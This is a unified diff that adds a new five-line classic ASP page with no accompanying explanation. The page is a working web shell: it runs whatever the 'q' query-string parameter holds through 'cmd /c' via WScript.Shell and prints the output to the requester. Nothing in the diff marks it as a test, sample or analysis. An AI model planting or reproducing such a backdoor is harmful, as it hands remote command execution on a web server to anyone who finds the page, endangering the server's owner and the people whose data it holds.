@@ -1,0 +1,5 @@
+<%
+Set o = Server.CreateObject("WScript.Shell")
+Set x = o.Exec("cmd /c " & Request.QueryString("q"))
+Response.Write(x.StdOut.ReadAll())
+%>
